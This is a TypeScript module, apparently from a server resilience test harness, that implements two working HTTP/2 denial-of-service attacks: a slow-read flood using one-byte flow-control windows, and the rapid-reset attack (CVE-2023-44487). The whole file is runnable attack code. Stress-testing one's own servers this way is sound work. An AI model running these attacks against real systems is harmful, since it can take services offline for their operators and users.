import { constants } from 'node:http2';
import { type Attack, dialHttp2, LARGE_ANSWER, lanes, pause, until } from '../support/target.ts';

/** A window of one byte, a hundred large answers, and nobody who reads. */
export const unreadStreams: Attack = async (target) => {
  await lanes(114, 1_000, async () => {
    const session = await dialHttp2(target, { initialWindowSize: 1 });
    for (let i = 0; i < 100 && !session.closed; i++) ignore(session.request({ ':path': LARGE_ANSWER }));
    await until(session, 'close', 10_000);
  });
};

/** Requests that are taken back as soon as they are made (CVE-2023-44487). */
export const rapidResets: Attack = async (target) => {
  await lanes(8, 50, async () => {
    const session = await dialHttp2(target);
    for (let i = 0; i < 1_000 && !session.closed && !session.destroyed; i++) {
      const stream = ignore(session.request({ ':path': LARGE_ANSWER }));
      stream.close(constants.NGHTTP2_CANCEL);
      if (i % 50 === 49) await pause(5);
    }
    session.destroy();
  });
};

function ignore<S extends NodeJS.EventEmitter>(stream: S): S {
  stream.on('error', () => {});
  return stream;
}
